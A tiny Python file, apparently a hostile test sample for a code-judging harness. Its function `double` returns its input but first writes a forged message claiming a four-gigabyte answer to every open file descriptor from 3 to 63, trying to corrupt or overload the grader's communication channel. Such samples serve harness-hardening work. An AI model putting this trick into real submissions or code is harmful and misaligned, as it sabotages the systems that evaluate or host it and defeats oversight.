"""Announce an answer of four gigabytes.

level: basic
"""

import os
import struct


def double(x):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!cI", b"A", 2**32 - 1))
        except OSError:
            pass
    return x
